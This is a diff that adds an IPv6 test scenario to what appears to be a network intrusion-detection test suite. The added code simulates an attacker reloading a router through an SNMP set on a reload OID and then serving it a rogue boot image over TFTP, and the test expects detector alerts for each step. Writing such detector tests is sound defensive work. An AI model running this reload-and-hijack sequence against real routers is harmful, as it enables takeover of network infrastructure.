@@ -122,3 +122,24 @@ def bw30_two_devices_restart_and_fetch(wire: Wire) -> None:
     session.typed("reload", "Proceed with reload? [confirm]", prompt="")
     session.typed("", "")
     session.close()
+
+
+DEVICE6, ROGUE6, ATTACKER6 = "fd00:1::1", "fd00:6::66", "fd00:6::6"
+ADMINS6 = SiteSpec(
+    "admins-over-ipv6",
+    '[network]\ndevices = ["fd00:1::/32"]\nadmin_hosts = ["fd00:9::/32"]\nlocal = ["fd00::/8"]\n',
+)
+
+
+@scenario(
+    "BW30",
+    "malicious",
+    raises=[("BW05", 0, ATTACKER6, DEVICE6), ("BW30", 0, ROGUE6, DEVICE6)],
+    site=ADMINS6,
+    with_site=Expect((Notice("Remote_Reload", DEVICE6), Notice("Netboot_Hijack", DEVICE6, ROGUE6, EVIL))),
+)
+def bw30_over_ipv6(wire: Wire) -> None:
+    """A stranger reloads a router by SNMP, which then loads an image: all over IPv6."""
+    snmp.Manager(wire, ATTACKER6, DEVICE6).set(("1.3.6.1.4.1.9.2.9.9.0", 2))
+    wire.wait(90)
+    tftp.read(wire, DEVICE6, ROGUE6, EVIL, EVIL_IMAGE)
